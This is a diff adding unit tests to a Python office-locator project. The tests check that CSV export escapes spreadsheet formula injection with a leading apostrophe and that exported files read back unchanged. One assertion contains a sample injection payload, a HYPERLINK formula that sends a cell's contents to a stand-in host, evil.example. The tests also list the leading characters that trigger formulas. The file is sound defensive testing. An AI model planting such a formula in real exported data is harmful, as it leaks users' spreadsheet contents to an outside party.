@@ -3,6 +3,7 @@ each field, and writing files that read back unchanged."""
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 
@@ -18,7 +19,7 @@ from locator.offices.formats import (
     write_csv,
     write_geojson,
 )
-from tests.office_samples import TRICKY, office
+from tests.office_samples import FORMULAS, TRICKY, office
 
 HEADER = ",".join(COLUMNS)
 
@@ -390,6 +391,51 @@ def test_geojson_export_import_export_is_identical_with_tricky_values():
     second = io.StringIO()
     write_geojson([r.clean for r in rows], second)
     assert second.getvalue() == first.getvalue()
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe():
+    out = io.StringIO()
+    write_csv(FORMULAS, out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    formulas, apostrophes = rows
+    assert formulas["name"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+    assert formulas["organization"].startswith("'@SUM(")
+    assert formulas["address"] == "'-2+3, вул. Мінусова"
+    assert formulas["phone"] == "'+380 44 555 01 23"
+    assert formulas["description"] == "'- перший пункт\n- другий пункт"
+    # Coordinates are numbers a spreadsheet must read as numbers.
+    assert (formulas["lat"], formulas["lon"]) == ("-33.9", "-70.6")
+    # Text that really starts with an apostrophe gets one more, so it reads back whole.
+    assert formulas["postcode"] == "''8320000"
+    assert apostrophes["name"] == "''=already quoted'"
+    assert (apostrophes["address"], apostrophes["region"]) == ("'''", "''")
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        for row in rows
+        for cell in row.values()
+        if cell not in (row["lat"], row["lon"])
+    )
+
+
+def test_csv_with_formula_text_reads_back_and_writes_again_identically():
+    first = io.StringIO()
+    write_csv(FORMULAS, first)
+    _, rows = rows_of(first.getvalue().encode())
+    assert [r.errors for r in rows] == [[], []]
+    assert [r.clean for r in rows] == FORMULAS
+    second = io.StringIO()
+    write_csv([r.clean for r in rows], second)
+    assert second.getvalue() == first.getvalue()
+
+
+def test_a_hand_written_apostrophe_stays_unless_it_marks_a_formula():
+    def name_of(cell: str) -> str:
+        return one_row(csv_bytes(HEADER, f"a,{cell},,,Київ,,,UA,,,,,,,,,,,")).clean["name"]
+
+    assert name_of("'Слово") == "'Слово"
+    assert name_of("'") == "'"
+    assert name_of("'+380") == "+380"  # what a spreadsheet shows for this cell
+    assert name_of("''Слово") == "'Слово"
 
 
 def test_active_column_round_trips_when_asked_for():
